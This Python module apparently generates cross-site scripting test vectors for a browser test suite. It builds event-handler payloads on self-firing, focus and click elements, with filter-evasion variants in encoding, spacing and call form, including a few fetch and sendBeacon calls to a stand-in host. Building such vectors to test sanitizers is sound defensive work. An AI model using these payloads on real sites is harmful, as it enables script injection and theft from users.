"""Attributes that run a script when something happens, and the ways to write one."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice

from tests.browser.vectors.payloads import PIXEL, RUN, SOUND, mixed_case, words

EVENTS = words("""
abort auxclick beforeinput beforematch beforetoggle blur cancel canplay canplaythrough change click close
command contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave
dragover dragstart drop durationchange emptied ended error focus formdata input invalid keydown keypress keyup
load loadeddata loadedmetadata loadstart mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
paste pause play playing progress ratechange reset resize scroll scrollend securitypolicyviolation seeked
seeking select slotchange stalled submit suspend timeupdate toggle volumechange waiting webkitanimationend
webkitanimationiteration webkitanimationstart webkittransitionend wheel
""")
"""Of every element, by the HTML standard."""

EVENTS_OF_OTHER_STANDARDS = words("""
animationcancel animationend animationiteration animationstart transitioncancel transitionend transitionrun
transitionstart pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
pointerrawupdate pointerup gotpointercapture lostpointercapture touchcancel touchend touchmove touchstart
fullscreenchange fullscreenerror selectionchange selectstart focusin focusout beforecopy beforecut beforepaste
search mousewheel beforexrselect contentvisibilityautostatechange scrollsnapchange scrollsnapchanging begin
end repeat
""")

EVENTS_OF_WINDOW = words("""
afterprint beforeprint beforeunload hashchange languagechange message messageerror offline online pagehide
pagereveal pageshow pageswap popstate rejectionhandled storage unhandledrejection unload
""")

EVENTS_OF_THE_PAST = words("""
activate beforeactivate beforedeactivate beforeload beforescriptexecute deactivate filterchange formchange help
loadend propertychange readystatechange show timer
""")

ELEMENTS = words("""
a abbr address area article aside audio b base bdi bdo blockquote body br button canvas caption cite code col
colgroup data datalist dd del details dfn dialog div dl dt em embed fieldset figcaption figure footer form h1
head header hgroup hr html i iframe img input ins kbd label legend li link main map mark math menu meta meter
nav noscript object ol optgroup option output p param picture pre progress q rp rt ruby s samp script search
section select selectedcontent slot small source span strong style sub summary sup svg table tbody td template
textarea tfoot th thead time title tr track u ul var video wbr x-y
""")
"""Of the HTML standard, and one of no standard."""

ELEMENTS_OF_THE_PAST = words("""
acronym applet basefont bgsound big blink center command content dir element font frame frameset image isindex
keygen listing marquee menuitem multicol nextid nobr noembed noframes plaintext portal rb rtc shadow spacer
strike tt xmp
""")

BY_ITSELF = (
    ("<img src=x {}>", "error"),
    (f"<img src={PIXEL} {{}}>", "load"),
    ("<image src=x {}>", "error"),
    ("<input type=image src=x {}>", "error"),
    ("<picture><source srcset=x><img src=x {}></picture>", "error"),
    ("<svg {}>", "load"),
    ("<svg><g {}>", "load"),
    ("<svg><image href=x {}>", "error"),
    (f"<svg><image href={PIXEL} {{}}>", "load"),
    (f"<svg><filter><feImage href={PIXEL} {{}}>", "load"),
    ("<svg><script href=x {}></script>", "error"),
    ("<svg><style {}></style>", "load"),
    ("<svg><animate attributeName=x dur=1ms repeatCount=2 {}>", "begin end repeat"),
    ("<svg><set attributeName=x dur=1ms repeatCount=2 {}>", "begin end repeat"),
    ("<svg><animateMotion dur=1ms repeatCount=2 {}>", "begin end repeat"),
    ("<svg><animateTransform attributeName=transform dur=1ms repeatCount=2 {}>", "begin end repeat"),
    ("<iframe {}></iframe>", "load"),
    ("<iframe src=data:, {}></iframe>", "load"),
    ("<iframe srcdoc=x {}></iframe>", "load"),
    ("<frameset {}><frame>", "load"),
    ("<body {}>", "load pageshow resize focus"),
    ("<object data=x {}></object>", "error"),
    ("<object data=data:text/html, {}></object>", "load"),
    ("<embed src=data:text/html, {}>", "load"),
    ("<script src=x {}></script>", "error"),
    ("<script src=data:, {}></script>", "load"),
    ("<link rel=stylesheet href=x {}>", "error"),
    ("<link rel=stylesheet href=data:text/css, {}>", "load"),
    ("<link rel=modulepreload href=x {}>", "error"),
    ("<style {}></style>", "load"),
    ("<style {}>@import 'x'</style>", "error load"),
    ("<video src=x {}></video>", "error loadstart"),
    ("<video><source src=x {}></video>", "error"),
    ("<audio src=x {}></audio>", "error loadstart"),
    ("<audio><source src=x {}></audio>", "error"),
    (f"<audio src={SOUND} {{}}></audio>", "loadstart loadedmetadata loadeddata durationchange canplay suspend"),
    (f"<audio autoplay src={SOUND} {{}}></audio>", "canplaythrough play playing timeupdate pause ended"),
    (f"<video autoplay muted src={SOUND} {{}}></video>", "loadeddata canplay play playing timeupdate ended"),
    (f"<video autoplay muted loop src={SOUND} {{}}></video>", "seeking seeked"),
    ("<video src=x><track default src=data:text/vtt,WEBVTT {}></video>", "load error"),
    ("<details open {}><summary>x</summary></details>", "toggle beforetoggle"),
    ("<marquee {}>x</marquee>", "start"),
    ("<marquee loop=1 behavior=alternate truespeed scrolldelay=1 scrollamount=999 {}>x</marquee>", "bounce finish"),
    ("<style>@keyframes k{{}}</style><p style='animation:k 1ms' {}>x</p>", "animationstart animationend"),
    ("<style>@keyframes k{{}}</style><p style='animation:k 1ms 2' {}>x</p>", "animationiteration"),
    ("<style>@keyframes k{{}}</style><p style='animation:k 1ms' {}>x</p>", "webkitanimationstart"),
    (
        "<style>p{{transition:left 1ms;left:1px}}@starting-style{{p{{left:0}}}}</style><p {}>x</p>",
        "transitionrun transitionstart transitionend webkittransitionend",
    ),
    ("<p style=content-visibility:auto {}>x</p>", "contentvisibilityautostatechange"),
    ("<p><template shadowrootmode=open><slot {}></slot></template>x</p>", "slotchange"),
    ("<div><template shadowrootmode=open><slot {}></slot></template>x</div>", "slotchange"),
    ("<div style='overflow:auto;height:9px' {}><p>x<p>x<p><input autofocus></div>", "scroll scrollend"),
)

BY_FOCUS = (
    "<input autofocus {}>",
    "<textarea autofocus {}></textarea>",
    "<select autofocus {}></select>",
    "<button autofocus {}>x</button>",
    "<a href=x autofocus {}>x</a>",
    "<p tabindex=0 autofocus {}>x</p>",
    "<p contenteditable autofocus {}>x</p>",
    "<x-y tabindex=0 autofocus {}>x</x-y>",
    "<iframe autofocus {}></iframe>",
    "<video controls autofocus {}></video>",
    "<details open><summary autofocus {}>x</summary></details>",
    "<dialog open><input autofocus {}></dialog>",
    "<svg tabindex=0 autofocus {}></svg>",
    "<svg><a href=x autofocus {}><text y=9>x</text></a></svg>",
    "<math tabindex=0 autofocus {}></math>",
)

BY_CLICK = (
    ("<form onsubmit='return false' {}><button>x</button></form>", "formdata click"),
    ("<form {}><button>x</button></form>", "submit"),
    ("<form {}><input type=reset></form>", "reset"),
    ("<form><input required {}><button>x</button></form>", "invalid"),
    ("<input type=checkbox {}>", "change input click"),
    ("<label {}><input type=radio></label>", "change input click"),
    ("<button popovertarget=t>x</button><p id=t popover {}>x</p>", "toggle beforetoggle"),
    ("<button commandfor=t command=show-modal>x</button><dialog id=t {}>x</dialog>", "command toggle beforetoggle"),
    ("<details {}><summary>x</summary></details>", "toggle"),
    ("<form><input type=image src=x {}></form>", "click"),
)

CARRIERS = (
    ("img", "src=x", "onerror"),
    ("svg", "x", "onload"),
    ("input", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("iframe", "x", "onload"),
    ("body", "x", "onload"),
)

TAGS = (
    "<{tag} {given} {on}={run}>",
    "<{tag}/{given}/{on}={run}//>",
    "<{tag}\t{given}\t{on}\t=\t{run}>",
    "<{tag}\n{given}\n{on}\n=\n{run}\n>",
    "<{tag}\f{given}\f{on}={run}>",
    "<{tag}\r{given}\r{on}={run}>",
    "<{tag} {given} {on}='{run}'>",
    '<{tag} {given} {on}="{run}">',
    '<{tag} {given} {on}="{run}"x',
    "<{tag} {given} {on}={run} <p>",
    "<{tag} {given} {on}={run} //",
    "<<{tag} {given} {on}={run}>",
    "<{tag} y='>' {given} {on}={run}>",
    '<{tag} y=">" {given} {on}={run}>',
    "<{tag} y=`> ` {given} {on}={run}>",
    "<{tag} \" ' {given} {on}={run}>",
    "<{tag} {given} {on}={run} {on}=2>",
    "<{tag} {given} y{on}=2 {on}={run}>",
    "<{tag} =y {given} {on}={run}>",
    "<{tag} {on}={run} {given}></{tag} {given}>",
    "</p></div></td><{tag} {given} {on}={run}>",
    "<{tag}/\x0b/{given} {on}={run}>",
    "<\x00{tag} {given} {on}={run}>",
    "<{tag}\x00 {given} {on}={run}><{tag} {given} {on}={run}>",
    "< {tag} {given} {on}={run}>",
    "&lt;{tag} {given} {on}={run}&gt;",
    "\uff1c{tag} {given} {on}={run}\uff1e",
    "%3C{tag} {given} {on}={run}%3E",
)

CALLS = (
    "alert`1`",
    "(alert)(1)",
    "/*x*/alert/*x*/(1)",
    "alert(1)//",
    "alert(1)<!--",
    "x:alert(1)",
    "javascript:alert(1)",
    "1?alert(1):0",
    "[1].map(alert)",
    "self['al'+'ert'](1)",
    "window.alert?.(1)",
    "eval('al'+'ert(1)')",
    "Function('al'+'ert(1)')()",
    "setTimeout(alert)",
    "setTimeout('al'+'ert(1)')",
    "queueMicrotask(alert)",
    "Promise.resolve(1).then(alert)",
    "import('data:text/javascript,alert(1)')",
    "location='javascript:alert(1)'",
    r"\u0061lert(1)",
    r"\u{61}lert(1)",
    "&#97;lert(1)",
    "&#x61;lert(1)",
    "&#0000097lert(1)",
    "alert&#40;1&#41;",
    "alert&lpar;1&rpar;",
    "alert&#x28;1&#x29;",
    "&Tab;alert(1)",
    "alert&NewLine;(1)",
    "&quot;&quot;;alert(1)",
    "fetch('https://x.example/')",
    "new&#32;Image().src='https://x.example/'",
    "navigator.sendBeacon('https://x.example/')",
)


def vectors() -> Iterator[str]:
    yield from of_any_element()
    yield from of_the_window()
    yield from fired_by_itself()
    yield from fired_by_focus_and_click()
    yield from written_in_other_ways()
    yield from calling_in_other_ways()


def of_any_element() -> Iterator[str]:
    """Any element takes any handler, whether it will ever fire or not: each of them once."""
    elements = ELEMENTS + ELEMENTS_OF_THE_PAST
    events = EVENTS + EVENTS_OF_OTHER_STANDARDS + EVENTS_OF_THE_PAST
    pairs = zip(cycle(elements), cycle(events), strict=False)
    for element, event in islice(pairs, max(len(elements), len(events))):
        yield f"<{element} on{event}={RUN}>x</{element}>"


def of_the_window() -> Iterator[str]:
    """A second ``body`` hands its attributes to the first."""
    yield from (f"<body on{event}={RUN}>" for event in EVENTS_OF_WINDOW)


def fired_by_itself() -> Iterator[str]:
    for element, events in BY_ITSELF:
        yield from (element.format(f"on{event}={RUN}") for event in events.split())


def fired_by_focus_and_click() -> Iterator[str]:
    for element in BY_FOCUS:
        yield from (element.format(f"on{event}={RUN}") for event in ("focus", "focusin"))
    for element, events in BY_CLICK:
        yield from (element.format(f"on{event}={RUN}") for event in events.split())


def written_in_other_ways() -> Iterator[str]:
    for name, given, on in CARRIERS:
        for tag in TAGS:
            yield tag.format(tag=name, given=given, on=on, run=RUN)
        yield TAGS[0].format(tag=name.upper(), given=given.upper(), on=on.upper(), run=RUN)
        yield TAGS[0].format(tag=mixed_case(name), given=given, on=mixed_case(on), run=RUN)


def calling_in_other_ways() -> Iterator[str]:
    for name, given, on in CARRIERS[:4]:
        yield from (TAGS[7].format(tag=name, given=given, on=on, run=call) for call in CALLS)
